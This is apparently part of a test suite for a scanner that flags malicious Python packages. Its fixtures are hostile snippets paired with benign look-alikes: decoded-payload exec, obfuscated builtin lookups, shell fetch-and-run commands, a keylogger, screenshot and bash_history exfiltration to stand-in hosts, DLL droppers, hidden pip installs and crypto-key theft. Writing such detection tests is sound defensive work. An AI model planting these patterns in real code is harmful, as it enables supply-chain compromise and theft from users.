        "out = []\nfor b in D:\n    out.append(b ^ 3)\nexec(bytes(out))\n",
        "import base64\nclass L:\n    def go(self, d):\n        exec(d)\n\n"
        "L().go(base64.b64decode(P))\n",
        # an integer unpacked into the program; os.system bound to a name
        "n = 123456789\nexec(n.to_bytes(9, 'big'))\n",
        "import base64\nimport os as o\nrun = o.system\nrun(base64.b64decode(C).decode())\n",
    ],
)
def test_decoders_written_by_hand_reach_their_sinks(source: str) -> None:
    assert "CPL-THR-001" in danger(source)


@pytest.mark.parametrize(
    "source",
    [
        # a checksum mapped with operator.xor and printed; a translation table for display
        "import functools, operator\nprint(functools.reduce(operator.xor, data, 0))\n",
        "T = str.maketrans('-', '_')\nname = raw.translate(T)\nprint(name)\n",
        # a method of this file given plain data; decoded data written to another object
        "class L:\n    def go(self, d):\n        exec(d)\n\nL().go('x = 1')\n",
        "import base64\nclass F:\n    def write(self, s):\n        exec(s)\n\n"
        "out.write(base64.b64decode(line))\n",
    ],
)
def test_xor_tables_and_methods_of_plain_data_are_not_decoders(source: str) -> None:
    assert "CPL-THR-001" not in danger(source)


@pytest.mark.parametrize(
    "runner",
    [
        "os.system(f'python \"{P}\"')",
        "subprocess.run('{} {}'.format(sys.executable, P), shell=True)",
        "subprocess.run('%s %s' % (sys.executable, P), shell=True)",
    ],
)
def test_a_written_stage_run_by_a_quoted_or_formatted_command_is_found(runner: str) -> None:
    source = (
        "import os, subprocess, sys\n"
        "S = 'import urllib.request\\nexec(urllib.request.urlopen(\"https://x.example/s\").read())'\n"
        "P = os.path.join(os.getenv('APPDATA'), 'u.pyw')\n"
        f"with open(P, 'w') as fh:\n    fh.write(S)\n{runner}\n"
    )
    assert "CPL-THR-016" in danger(source)


@pytest.mark.parametrize(
    "source",
    [
        "__builtins__.__getitem__('ex' + 'ec')(c)\n",
        "import builtins\nbuiltins.__dict__.__getitem__('ev' + 'al')(c)\n",
        "locals()['__builtins__']['ex' + 'ec'](c)\n",
        "import builtins\n"
        "getattr(builtins, [n for n in dir(builtins) if n[::-1] == 'cexe'][0])(c)\n",
        "eval('__imp' + 'ort__')('os').system('id')\n",
    ],
)
def test_more_lookups_by_computed_names_are_threats(source: str) -> None:
    assert "CPL-THR-003" in danger(source)


@pytest.mark.parametrize(
    "source",
    [
        # a registry filled from a module's names, a builtin picked by a parameter
        "import builtins\nNAMES = [n for n in dir(builtins) if not n.startswith('_')]\n",
        "def pick(ns, key):\n    return ns.__getitem__(key)\n",
        "eval('1 + 2')\n",
    ],
)
def test_lookups_by_plain_or_run_time_names_are_not_computed(source: str) -> None:
    assert "CPL-THR-003" not in danger(source)


@pytest.mark.parametrize(
    "source",
    [
        "import os\nos.system('echo Y3VybCBodHRwczovL3guZXhhbXBsZSB8IHNo | base64 -d | bash')\n",
        "import subprocess\nsubprocess.Popen('mshta https://x.example/a.hta', shell=True)\n",
        "import os\nos.system('regsvr32 /s /n /u /i:https://x.example/a.sct scrobj.dll')\n",
    ],
)
def test_shell_commands_that_decode_or_fetch_and_run_are_threats(source: str) -> None:
    assert "CPL-THR-015" in danger(source)


@pytest.mark.parametrize(
    "source",
    [
        # decoding to a file, an installer run from a local path
        "import os\nos.system('base64 -d key.b64 > key.pem')\n",
        "import os\nos.system('msiexec /i C:\\\\setup\\\\app.msi /quiet')\n",
    ],
)
def test_shell_commands_that_decode_to_files_or_install_local_msis_are_not(source: str) -> None:
    assert "CPL-THR-015" not in danger(source)


def test_a_download_and_a_run_in_separate_helpers_meet_through_their_parameters() -> None:
    source = """
    import os, subprocess, requests

    def fetch(url, file):
        r = requests.get(url, stream=True)
        with open(file, "wb") as f:
            for chunk in r.iter_content(8192):
                f.write(chunk)

    def start(path):
        command = [path, "-o", "pool.example:8080"]
        subprocess.Popen(command)

    def main():
        path = "/tmp/runner"
        fetch("https://x.example/runner", file=path)
        start(path)
    """
    assert "CPL-THR-002" in danger(source)
    # the same helpers, the download saved and a different program run
    benign = source.replace("        start(path)\n", '        start("/usr/bin/true")\n')
    assert benign != source
    assert "CPL-THR-002" not in danger(benign)


def test_an_inline_lambda_passes_its_argument_to_the_sink_inside() -> None:
    source = "import base64\n(lambda x: exec(base64.b64decode(x)))(BLOB)\n"
    assert "CPL-THR-001" in danger(source)
    assert "CPL-THR-001" not in danger("(lambda x: print(x))(BLOB)\n")


# -- recall2: names folded through this file's functions, loops and frames ---------------------


@pytest.mark.parametrize(
    "source",
    [
        # a name filled by a loop over literals
        """
        字 = str(hex)
        名 = ""
        for i in [20, 21, 20]:
            名 += 字[i]
        getattr(__builtins__, 名 + "c")("print(1)")
        """,
        # a decoder of this file with a parameter, and a helper that looks the name up
        """
        def 解(s):
            return s[::-1]
        getattr(__builtins__, 解("cexe"))("print(1)")
        """,
        """
        def 运行(函数名, 参数):
            return getattr(__builtins__, 函数名)(参数)
        字 = str(hex)
        运行(字[20] + 字[21] + 字[20] + "c", "print(1)")
        """,
        # folds: map of a lambda, functools.reduce, operator.add
        'n = "".join(map(lambda i: str(hex)[i], [20, 21, 20]))\n'
        'getattr(__builtins__, n + "c")(1)\n',
        "import functools\n"
        "getattr(__builtins__, functools.reduce(lambda a, b: a + b, 'exec'))(1)\n",
        'import operator\ngetattr(__builtins__, operator.add("ev", "al"))("1")\n',
        # an attribute given a computed name before it is used
        """
        class Step:
            def run(self):
                self.n = str(hex)
                getattr(__builtins__, self.n[20] + self.n[21] + self.n[20] + "c")("1")
        """,
        # builtins reached through a frame or a function's globals
        'import sys\nsys._getframe().f_builtins["ex" + "ec"]("print(1)")\n',
        '(lambda: 0).__globals__["__builtins__"].__dict__["ev" + "al"]("1")\n',
    ],
)
def test_names_folded_through_functions_loops_and_frames_are_computed(source: str) -> None:
    assert "CPL-THR-003" in danger(source, "setup.py")
    assert "CPL-THR-003" in danger(source)


@pytest.mark.parametrize(
    "source",
    [
        # a helper given literal names is dispatch, not hiding
        """
        import builtins
        def get(name):
            return getattr(builtins, name)
        get("open")
        get("print")
        """,
        # a helper called with a name read at run time
        """
        import builtins
        def get(name):
            return getattr(builtins, name)
        get(input())
        """,
        # a loop over names read at run time
        """
        import builtins, sys
        for n in sys.argv:
            getattr(builtins, n)
        """,
        "import sys\nbuiltins = sys._getframe().f_builtins\nprint(len(builtins))\n",
    ],
)
def test_dispatch_by_literal_or_run_time_names_is_not_computed(source: str) -> None:
    assert "CPL-THR-003" not in danger(source, "setup.py")


@pytest.mark.parametrize(
    "source",
    [
        'import pip\npip.main(args=["install", "https://files.example/s.tar.gz"])\n',
        """
        from pip._internal import main as 装
        参数 = []
        参数.append("install")
        参数.append("stage2")
        装(参数)
        """,
    ],
)
def test_pip_given_install_by_keyword_or_by_a_list_filled_later_is_a_threat(source: str) -> None:
    assert "CPL-THR-019" in danger(source, "setup.py")


@pytest.mark.parametrize(
    "runner", ['["java", "-jar", jar]', 'f"javaw -jar {jar}"', '["node", jar]']
)
def test_a_downloaded_file_started_by_a_runtime_is_download_and_run(runner: str) -> None:
    source = f"""
    import os, subprocess, requests
    jar = os.path.join(os.getenv("TEMP"), "JavaUpdater.jar")
    with open(jar, "wb") as f:
        f.write(requests.get("https://files.example/u.jar").content)
    subprocess.Popen({runner}, shell=True)
    """
    assert "CPL-THR-002" in danger(source)


def test_a_shipped_jar_started_by_java_is_not_download_and_run() -> None:
    source = """
    import os, subprocess
    jar = os.path.join(os.path.dirname(__file__), "tool.jar")
    subprocess.run(["java", "-jar", jar, "--version"], check=True)
    """
    assert danger(source) == set()


@pytest.mark.parametrize(
    "source",
    [
        # builtins' namespace picked in and out of __main__: every idiom
        "b = __builtins__ if isinstance(__builtins__, dict) else vars(__builtins__)\n"
        'b["ev" + "al"]("1")\n',
        "b = isinstance(__builtins__, dict) and __builtins__ or vars(__builtins__)\n"
        'b["ev" + "al"]("1")\n',
        'b = (vars(__builtins__), __builtins__)[type(__builtins__) is dict]\nb["ev" + "al"]("1")\n',
        "b = {True: __builtins__, False: vars(__builtins__)}[isinstance(__builtins__, dict)]\n"
        'b["ev" + "al"]("1")\n',
        'import sys\ngetattr(sys.modules[__name__].__builtins__, "ev" + "al")("1")\n',
        'getattr(print.__self__, "ev" + "al")("1")\n',
        "try:\n    import __builtin__ as b\nexcept ImportError:\n    import builtins as b\n"
        'getattr(b, "ev" + "al")("1")\n',
        'for b in [__builtins__]:\n    getattr(b, "ev" + "al")("1")\n',
        'g = vars(__builtins__).get\ng("ev" + "al")("1")\n',
        # a network module's function named backwards
        'import requests\ngetattr(requests, "tsop"[::-1])("https://c.example/", data=d)\n',
        'import socket\ngetattr(socket, "noitcennoc_etaerc"[::-1])(("192.0.2.1", 80))\n',
        '__import__("lituhs"[::-1]).copy(src, dst)\n',
    ],
)
def test_builtins_and_watched_modules_reached_by_any_idiom_are_looked_up(source: str) -> None:
    assert "CPL-THR-003" in danger(source)


@pytest.mark.parametrize(
    "source",
    [
        # urllib3's TLS versions: names written out, enumerated by a loop
        'import ssl\nfor attr in ("TLSv1", "TLSv1_1"):\n    getattr(ssl, f"PROTOCOL_{attr}")\n',
        # a pick between two harmless tables
        'import json\nf = (json.dumps, repr)[pretty]\nf("x" + "y")\n',
        # a module's constants spelled from pieces
        'import socket\nflag = getattr(socket, "SO_" + "REUSEADDR")\n',
        # a parameter named like one elsewhere that is a local
        "import subprocess\n"
        "def wrap(original_name):\n"
        "    def run(*a):\n"
        "        return getattr(subprocess, original_name)(*a)\n"
        "    return run\n"
        "def patch(funcname):\n"
        '    original_name = "original_" + funcname\n'
        "    return original_name\n",
    ],
)
def test_enumerated_or_plain_names_on_watched_modules_are_not_hidden(source: str) -> None:
    assert "CPL-THR-003" not in danger(source)


def test_pip_installed_when_a_package_is_imported_is_a_threat_but_a_benchmark_is_not() -> None:
    install = (
        'import subprocess, sys\nsubprocess.call([sys.executable, "-m", "pip", "install", "x"])\n'
    )
    assert "CPL-THR-019" in danger(install, "pkg/__init__.py")
    url = 'import os\nos.system("pip install https://files.example/x-1.0.tar.gz")\n'
    assert "CPL-THR-019" in danger(url, "pkg/helpers.py")
    # a script installing the library it measures, and a helper called on demand
    assert "CPL-THR-019" not in danger(install, "bench/run.py")
    on_demand = (
        "import subprocess, sys\ndef ensure():\n"
        '    subprocess.call([sys.executable, "-m", "pip", "install", "x"])\n'
    )
    assert "CPL-THR-019" not in danger(on_demand, "pkg/__init__.py")
    assert "CPL-THR-019" not in danger(url, "tests/test_install.py")


@pytest.mark.parametrize(
    "source",
    [
        """
        from pynput import keyboard
        import requests
        keys = []
        def press(k):
            keys.append(str(k))
            requests.post("https://198.51.100.3/k", data={"k": "".join(keys)})
        keyboard.Listener(on_press=press).start()
        """,
        """
        import io, requests
        from PIL import ImageGrab
        buf = io.BytesIO()
        ImageGrab.grab().save(buf, "PNG")
        requests.post("https://discord.com/api/webhooks/1/x", files={"f": buf.getvalue()})
        """,
    ],
)
def test_keystrokes_or_screens_sent_to_a_fixed_host_are_exfiltration(source: str) -> None:
    assert danger(source) & {"CPL-THR-017", "CPL-THR-004"}


def test_a_screenshot_tool_that_sends_nothing_is_not_exfiltration() -> None:
    source = """
    import pyautogui
    def capture(path):
        pyautogui.screenshot().save(path)
    """
    assert danger(source) == set()


def test_bytecode_loaded_from_a_file_is_a_threat_and_source_plugins_are_not() -> None:
    pyc = """
    import importlib.util, os
    spec = importlib.util.spec_from_file_location("m", os.path.join(HERE, "m.pyc"))
    spec.loader.exec_module(importlib.util.module_from_spec(spec))
    """
    assert "CPL-THR-027" in danger(pyc)
    source = pyc.replace("m.pyc", "m.py")
    assert "CPL-THR-027" not in danger(source)


@pytest.mark.parametrize(
    "source",
    [
        'import subprocess, requests\nhw = subprocess.check_output("wmic csproduct get uuid")\n'
        'requests.post("http://198.51.100.12/r", data={"hw": hw})\n',
        'import os, urllib.request\nme = os.popen("whoami && ipconfig").read()\n'
        'urllib.request.urlopen("http://198.51.100.12/r", data=me.encode())\n',
        "import subprocess, requests\n"
        'out = subprocess.run(["systeminfo"], capture_output=True).stdout\n'
        'requests.post("http://198.51.100.12/r", data=out)\n',
    ],
)
def test_the_output_of_a_host_identity_program_sent_out_is_a_beacon(source: str) -> None:
    assert "CPL-THR-017" in danger(source)


def test_a_program_output_that_is_not_the_hosts_identity_is_not_a_beacon() -> None:
    source = (
        'import subprocess, requests\nv = subprocess.check_output(["git", "describe"])\n'
        'requests.post("https://api.example.com/builds", data={"v": v})\n'
    )
    assert "CPL-THR-017" not in danger(source)


def test_a_shell_history_posted_to_a_fixed_host_is_credential_theft() -> None:
    source = (
        "import os, requests\n"
        'h = open(os.path.expanduser("~/.bash_history")).read()\n'
        'requests.post("http://198.51.100.12:8080/u", data=h)\n'
    )
    assert "CPL-THR-007" in danger(source)
    # the same history read by a tool that sends nothing is not theft
    assert "CPL-THR-007" not in danger(source.replace("requests.post", "print"))


def test_a_packaged_file_xored_written_and_started_is_a_dropper_in_any_module() -> None:
    source = """
    import os, subprocess
    here = os.path.dirname(__file__)
    blob = open(os.path.join(here, "IconCache.dat"), "rb").read()
    exe = bytes(b ^ 0x5A for b in blob)
    path = os.path.join(os.getenv("APPDATA"), "svc.exe")
    with open(path, "wb") as f:
        f.write(exe)
    subprocess.Popen([path])
    """
    assert "CPL-THR-001" in danger(source, "pkg/loader.py")


@pytest.mark.parametrize(
    "command",
    [
        'os.popen("pip3 install --user stage2")',
        'os.system("pip3.11 install stage2")',
        'subprocess.check_call(f"{sys.executable} -m pip install {name}", shell=True)',
        # the words known around what is not (issue 16's mutation testing, tune
        # cn6-pip-executable-concat): added together, formatted, with % (the verb in pieces)
        "os.system(sys.executable + ' -m pip ' + 'inst' + 'all ' + name)",
        "os.system('{} -m pip {} {}'.format(sys.executable, 'in' + 'stall', name))",
        "os.system('%s -m pip install %s' % (sys.executable, name))",
    ],
)
def test_pip_by_any_name_or_in_a_formatted_command_is_an_install(command: str) -> None:
    source = f"import os, subprocess, sys\nname = 'stage2'\n{command}\n"
    assert "CPL-THR-019" in danger(source, "setup.py")


@pytest.mark.parametrize("filename", ["setup.py", "pkg/__init__.py"])
def test_a_name_kept_in_a_class_of_the_file_is_computed(filename: str) -> None:
    source = """
    class 配置:
        名 = str(hex)[20] + "xec"
        版本 = "1.0"


    getattr(__builtins__, 配置.名)("print(1)")
    """
    assert "CPL-THR-003" in danger(source, filename)
    # a class's setting naming something harmless is no hidden name
    harmless = 'import os\nclass C:\n    sep = "se" + "p"\nvalue = getattr(os, C.sep)\n'
    assert "CPL-THR-003" not in danger(harmless, filename)


# -- issue 16, the last misses: pip run through runpy, APIs named for pkgutil -------------


@pytest.mark.parametrize(
    "source",
    [
        """
        import runpy, sys
        sys.argv = ["pip", "install", "--quiet", "colorama-helperz"]
        runpy.run_module("pip", run_name="__main__")
        """,
        """
        import runpy, sys
        sys.argv[1:] = ["install", "https://files.example/stage2-1.0.tar.gz"]
        runpy.run_module("pip._internal.cli.main", run_name="__main__")
        """,
        """
        import os, runpy, sys
        import pip
        sys.argv.extend(["install", "stage2"])
        runpy.run_path(os.path.join(os.path.dirname(pip.__file__), "__main__.py"))
        """,
    ],
)
def test_pip_run_through_runpy_with_an_install_in_argv_is_a_threat(source: str) -> None:
    assert "CPL-THR-019" in danger(source, "setup.py")


@pytest.mark.parametrize(
    "source",
    [
        # pip asked its version, and a package's own CLI run with an install subcommand
        'import runpy, sys\nsys.argv = ["pip", "--version"]\nrunpy.run_module("pip")\n',
        'import runpy, sys\nsys.argv = ["tool", "install"]\nrunpy.run_module("mytool.cli")\n',
    ],
)
def test_runpy_of_pip_without_an_install_or_of_another_module_is_not(source: str) -> None:
    assert "CPL-THR-019" not in danger(source, "setup.py")


@pytest.mark.parametrize(
    "source",
    [
        'import pkgutil\nrun = pkgutil.resolve_name("os:system")\nrun("id")\n',
        'import pkgutil\npkgutil.resolve_name("subprocess.Popen")(["whoami"])\n',
        'from pkgutil import resolve_name as rn\nrn("builtins:exec")(code)\n',
    ],
)
def test_an_api_named_in_a_string_for_pkgutil_resolve_name_is_a_threat(source: str) -> None:
    assert "CPL-THR-003" in danger(source)


@pytest.mark.parametrize(
    "source",
    [
        # entry points and settings resolved by the name they are configured with
        'import pkgutil\nLoader = pkgutil.resolve_name("mypkg.loaders:Loader")\n',
        "import pkgutil\ndef load(spec):\n    return pkgutil.resolve_name(spec)\n",
    ],
)
def test_pkgutil_resolve_name_of_a_plain_object_or_a_setting_is_not(source: str) -> None:
    assert "CPL-THR-003" not in danger(source)


# -- issue 16, the last misses: a DLL the package ships or copies, run by rundll32/regsvr32 --


@pytest.mark.parametrize(
    "source",
    [
        """
        import os, subprocess
        here = os.path.dirname(__file__)
        subprocess.Popen(["rundll32.exe", os.path.join(here, "data", "cache.dat") + ",DllMain"])
        """,
        """
        import os, shutil
        here = os.path.dirname(os.path.abspath(__file__))
        dst = os.path.join(os.environ["APPDATA"], "update.dat")
        shutil.copyfile(os.path.join(here, "theme.bin"), dst)
        os.system('rundll32 "%s",Start' % dst)
        """,
        """
        import os, subprocess
        src = os.path.join(os.path.dirname(__file__), "fonts.bin")
        dst = os.path.join(os.getenv("TEMP"), "msfont.ocx")
        with open(src, "rb") as f, open(dst, "wb") as g:
            g.write(f.read())
        subprocess.call("regsvr32 /s " + dst, shell=True)
        """,
        """
        import os, shutil, subprocess
        _HERE = os.path.dirname(os.path.abspath(__file__))
        def _cache():
            target = os.path.join(os.environ["LOCALAPPDATA"], "fntcache.dat")
            shutil.copyfile(os.path.join(_HERE, "data", "glyphs.dat"), target)
            subprocess.Popen(["rundll32.exe", target + ",GlyphInit"])
        """,
    ],
)
def test_a_dll_the_package_ships_or_copies_out_run_by_a_windows_loader_is_a_dropper(
    source: str,
) -> None:
    assert "CPL-THR-018" in danger(source)


@pytest.mark.parametrize(
    "source",
    [
        # Windows' own DLLs, and a COM server registered from the system's folder
        'import subprocess\nsubprocess.run(["rundll32", "user32.dll,LockWorkStation"])\n',
        'import os\nos.system("rundll32.exe shell32.dll,Control_RunDLL desk.cpl")\n',
        'import os, subprocess\nsubprocess.call(["regsvr32", "/s", os.path.join(sd, "x.dll")])\n',
    ],
)
def test_windows_loaders_of_the_systems_own_dlls_are_not_droppers(source: str) -> None:
    assert "CPL-THR-018" not in danger(source)


# -- issue 16, the last misses: the host's public IP looked up and sent out ----------------


@pytest.mark.parametrize(
    "source",
    [
        """
        import requests
        ip = requests.get("https://api.ipify.org").text
        requests.post("https://discord.com/api/webhooks/123/abc", json={"content": ip})
        """,
        """
        import json, urllib.request
        info = json.loads(urllib.request.urlopen("https://ipinfo.io/json").read())
        data = json.dumps({"ip": info["ip"], "city": info.get("city")}).encode()
        urllib.request.urlopen(urllib.request.Request("http://198.51.100.7:8080/c", data=data))
        """,
        """
        import requests
        def beacon():
            addr = requests.get("http://checkip.amazonaws.com").text.strip()
            requests.get("https://collect.example/b", params={"a": addr})
        """,
    ],
)
def test_the_public_ip_looked_up_and_sent_to_a_fixed_host_is_reconnaissance(source: str) -> None:
    assert "CPL-THR-017" in danger(source)


@pytest.mark.parametrize(
    "source",
    [
        # a CLI showing the user their address, and a client asking an API it is given
        'import requests\nprint("your IP:", requests.get("https://api.ipify.org").text)\n',
        """
        import requests
        def lookup(session, url):
            ip = requests.get("https://ifconfig.me/ip").text
            return ip
        """,
    ],
)
def test_the_public_ip_looked_up_and_kept_on_the_host_is_not(source: str) -> None:
    assert "CPL-THR-017" not in danger(source)


# -- issue 16, the last misses: pip's command line built in steps --------------------------


@pytest.mark.parametrize(
    "source",
    [
        'import subprocess\ncmd = ["pip3", "install"]\ncmd += ["stage2"]\nsubprocess.Popen(cmd)\n',
        """
        import subprocess
        cmd = ["pip", "install"]
        cmd.extend(["stage2"])
        subprocess.run(cmd)
        """,
        """
        import subprocess, sys
        base = [sys.executable, "-m", "pip"]
        subprocess.check_call(base + ["install", "stage2"])
        """,
        """
        import subprocess, sys
        PIP = [sys.executable, "-m", "pip"]
        args = PIP + ["install"] + ["--quiet"]
        args.append("https://files.example/stage2-2.0.tar.gz")
        subprocess.call(args)
        """,
    ],
)
def test_pip_install_assembled_from_lists_in_setup_py_is_a_threat(source: str) -> None:
    assert "CPL-THR-019" in danger(source, "setup.py")


@pytest.mark.parametrize(
    "source",
    [
        # the package itself, or its requirements file, installed by a build helper
        """
        import subprocess, sys
        b = [sys.executable, "-m", "pip"]
        subprocess.call(b + ["install", "."])
        """,
        """
        import subprocess, sys
        cmd = [sys.executable, "-m", "pip", "install"]
        cmd += ["-r", "requirements.txt"]
        subprocess.check_call(cmd)
        """,
    ],
)
def test_pip_installing_the_package_itself_or_its_requirements_is_not(source: str) -> None:
    assert "CPL-THR-019" not in danger(source, "setup.py")


# -- issue 16, the last misses: a name spelled by a helper taking *args ---------------------


def test_a_builtin_named_by_a_helper_given_its_letters_as_varargs_is_a_threat() -> None:
    source = """
    甲 = str(hex)
    def 取(源, *位):
        return "".join(源[k] for k in 位)
    getattr(__builtins__, 取(甲, 20, 21, 20, 13))(payload)
    """
    assert "CPL-THR-003" in danger(source)


def test_a_varargs_helper_given_what_the_caller_passes_is_not() -> None:
    # a name joined from a parameter: getattr(builtins, name) as pydoc and inspect do it
    source = """
    import builtins
    def joined(*parts):
        return "".join(parts)
    def lookup(name):
        return getattr(builtins, joined(name))
    """
    assert "CPL-THR-003" not in danger(source)


@pytest.mark.parametrize(
    "source",
    [
        # pip told what to do by a file the package ships (recall5, issue 16)
        "import json, os, pip\n"
        "here = os.path.dirname(os.path.abspath(__file__))\n"
        "cfg = json.load(open(os.path.join(here, 'build.json')))\npip.main(cfg['args'])\n",
        "import pip, base64, zlib\n"
        "args = zlib.decompress(base64.b64decode(open('d.bin').read())).decode().split()\n"
        "pip.main(args)\n",
    ],
)
def test_pip_main_given_arguments_read_from_data_in_an_install_script_is_a_threat(
    source: str,
) -> None:
    assert "CPL-THR-019" in danger(source, "setup.py")


@pytest.mark.parametrize(
    ("source", "filename"),
    [
        ("import pip\npip.main(['list'])\n", "setup.py"),  # known, not an install
        ("import pip\npip.main()\n", "setup.py"),
        ("import json, pip\npip.main(json.load(open('a.json')))\n", "tools/helper.py"),
    ],
)
def test_pip_main_known_harmless_or_outside_an_install_script_is_not(
    source: str, filename: str
) -> None:
    assert "CPL-THR-019" not in danger(source, filename)


# -- blind13: a Windows program the package ships, started at import or install --------------

_SHIPPED_STARTED = [
    (
        "pkg/__init__.py",
        """
        import os, subprocess
        exe = os.path.join(os.path.dirname(__file__), "helper.exe")
        subprocess.Popen([exe], creationflags=0x08000000)
        """,
    ),
    (
        "setup.py",
        """
        import os, subprocess
        from setuptools import setup
        here = os.path.dirname(os.path.abspath(__file__))
        subprocess.call(os.path.join(here, "tools", "updater.exe"))
        setup(name="x")
        """,
    ),
]


@pytest.mark.parametrize(("filename", "source"), _SHIPPED_STARTED)
@pytest.mark.parametrize("mode", [ScanMode.PACKAGE, ScanMode.PLUGIN])
def test_a_shipped_program_started_at_import_or_install_is_a_dropper(
    filename: str, source: str, mode: ScanMode
) -> None:
    assert "CPL-THR-018" in danger(source, filename, mode)


@pytest.mark.parametrize(("filename", "source"), _SHIPPED_STARTED)
def test_the_prefilter_keeps_a_shipped_program_started(
    filename: str, source: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    found_in_file(tmp_path, monkeypatch, filename, textwrap.dedent(source), "CPL-THR-018")


def test_a_bundled_tool_a_function_starts_is_no_dropper() -> None:
    # ninja/cmake-style wrappers: the bundled program runs when the user calls the function
    source = """
    import os, subprocess
    HERE = os.path.dirname(os.path.abspath(__file__))
    def run_tool(*args):
        return subprocess.run([os.path.join(HERE, "bin", "tool.exe"), *args])
    """
    for mode in (ScanMode.PACKAGE, ScanMode.PLUGIN):
        assert "CPL-THR-018" not in danger(source, "pkg/__init__.py", mode)


# -- blind13: PyArmor's runtime given a module's encrypted bytecode ---------------------------

_PYARMORED = """
from pyarmor_runtime_000000 import __pyarmor__
__pyarmor__(__name__, __file__, b'PY000000\\x00\\x03\\x0b\\x00\\xa7\\x0d\\x0d\\x0a\\x80\\x00\\x01')
"""


@pytest.mark.parametrize("mode", [ScanMode.PACKAGE, ScanMode.PLUGIN])
def test_a_module_shipped_as_pyarmor_bytecode_runs_code_without_source(mode: ScanMode) -> None:
    assert "CPL-THR-027" in danger(_PYARMORED, "pkg/__init__.py", mode)


def test_the_prefilter_keeps_a_pyarmored_module(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "pkg").mkdir()
    (tmp_path / "pkg" / "__init__.py").write_text(_PYARMORED, encoding="utf-8")
    filtered, whole = tree_both_ways(tmp_path, monkeypatch)
    assert "CPL-THR-027" in {r for r, _, _ in whole}
    assert filtered == whole


def test_pyarmor_named_in_prose_or_called_without_bytecode_is_not() -> None:
    source = '''
    """Protect the build with PyArmor: each module becomes __pyarmor__(__name__, ...)."""
    def __pyarmor__(name, path, data):
        return name
    __pyarmor__(__name__, __file__, "placeholder")
    '''
    for mode in (ScanMode.PACKAGE, ScanMode.PLUGIN):
        assert "CPL-THR-027" not in danger(source, "pkg/__init__.py", mode)


# -- blind14: a code runner kept as a class's attribute ---------------------------------------

_CLASS_ATTRIBUTE_RUNNERS = {
    "staticmethod": "class L:\n    run = staticmethod(exec)\n",
    "plain": "class L:\n    run = exec\n",
    "annotated-classmethod": "class L:\n    run: object = classmethod(eval)\n",
}


@pytest.mark.parametrize("shape", sorted(_CLASS_ATTRIBUTE_RUNNERS))
@pytest.mark.parametrize("mode", [ScanMode.PACKAGE, ScanMode.PLUGIN])
def test_a_decoded_payload_run_through_a_class_attribute_is_a_dropper(
    shape: str, mode: ScanMode
) -> None:
    source = (
        "import base64, zlib\n"
        + _CLASS_ATTRIBUTE_RUNNERS[shape]
        + "L.run(zlib.decompress(base64.b64decode(BLOB)))\n"
    )
    assert "CPL-THR-001" in danger(source, mode=mode)


def test_the_prefilter_keeps_a_class_attribute_runner(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    source = (
        "import base64\nclass L:\n    run = staticmethod(exec)\nL.run(base64.b64decode(BLOB))\n"
    )
    found_in_a_package(tmp_path, monkeypatch, source, "CPL-THR-001")


def test_a_class_attribute_that_is_no_code_runner_runs_nothing() -> None:
    # formatters kept as static methods (str.upper, a decoder's own function) and print
    source = """
    import base64
    class Fmt:
        render = staticmethod(str.upper)
        decode = staticmethod(base64.b64decode)
        show = print
    Fmt.show(Fmt.render(Fmt.decode(BLOB).decode()))
    """
    for mode in (ScanMode.PACKAGE, ScanMode.PLUGIN):
        assert not {r for r in danger(source, mode=mode) if r.startswith("CPL-THR")}


# -- blind14: the C library's system() through ctypes -----------------------------------------

_LIBC_RUNS = {
    "cdll-none": (
        "import base64, ctypes\nlibc = ctypes.CDLL(None)\nlibc.system(base64.b64decode(CMD))\n"
    ),
    "load-library": (
        "import base64, ctypes, ctypes.util\n"
        "libc = ctypes.cdll.LoadLibrary(ctypes.util.find_library('c'))\n"
        "libc.popen(base64.b64decode(CMD), b'r')\n"
    ),
    "msvcrt": "import base64, ctypes\nctypes.cdll.msvcrt.system(base64.b64decode(CMD))\n",
}


@pytest.mark.parametrize("shape", sorted(_LIBC_RUNS))
@pytest.mark.parametrize("mode", [ScanMode.PACKAGE, ScanMode.PLUGIN])
def test_a_decoded_command_run_by_libc_through_ctypes_is_a_dropper(
    shape: str, mode: ScanMode
) -> None:
    assert "CPL-THR-001" in danger(_LIBC_RUNS[shape], mode=mode)


@pytest.mark.parametrize("shape", sorted(_LIBC_RUNS))
def test_the_prefilter_keeps_libc_run_through_ctypes(
    shape: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "mod.py").write_text(_LIBC_RUNS[shape], encoding="utf-8")
    filtered, whole = tree_both_ways(tmp_path, monkeypatch)
    assert "CPL-THR-001" in {r for r, _, _ in whole}
    assert filtered == whole


def test_a_c_library_called_with_decoded_data_runs_no_program() -> None:
    # a codec library handed decoded bytes, libc's printf and a function named like a system
    # query: no program is started
    source = """
    import base64, ctypes
    lib = ctypes.CDLL("libcodec.so")
    lib.decode_frame(base64.b64decode(FRAME))
    libc = ctypes.CDLL(None)
    libc.printf(base64.b64decode(TEXT))
    libc.sysconf(84)
    """
    for mode in (ScanMode.PACKAGE, ScanMode.PLUGIN):
        assert not {r for r in danger(source, mode=mode) if r.startswith("CPL-THR")}


# -- blind14: a patched library function that hands what it gets to a helper that sends -------

_PATCH_THROUGH_HELPER = """
from eth_account import Account
from web3 import Web3
W3 = Web3(Web3.HTTPProvider("https://rpc.node.example"))
_create = Account.create
def _send(key):
    W3.eth.send_raw_transaction(SIGNER.sign_transaction({"data": key}).raw_transaction)
def create(*a, **k):
    acct = _create(*a, **k)
    _send(acct.key.hex())
    return acct
Account.create = create
"""


@pytest.mark.parametrize("mode", [ScanMode.PACKAGE, ScanMode.PLUGIN])
def test_a_patched_library_function_sending_through_a_helper_is_a_threat(mode: ScanMode) -> None:
    assert "CPL-THR-025" in danger(_PATCH_THROUGH_HELPER, "setutils/__init__.py", mode=mode)


def test_a_patched_library_function_whose_helper_only_logs_is_no_threat() -> None:
    # a compatibility shim wrapping the library's function, its helper logging locally; and
    # web3 used for the package's own transactions to a node it is configured with
    source = """
    import logging
    from eth_account import Account
    from web3 import Web3
    _create = Account.create
    def _note(address):
        logging.getLogger(__name__).info("created %s", address)
    def create(*a, **k):
        acct = _create(*a, **k)
        _note(acct.address)
        return acct
    Account.create = create
    def transfer(w3: Web3, tx):
        return w3.eth.send_raw_transaction(tx)
    """
    for mode in (ScanMode.PACKAGE, ScanMode.PLUGIN):
        assert not {
            r for r in danger(source, "shim/__init__.py", mode=mode) if r.startswith("CPL-THR")
        }


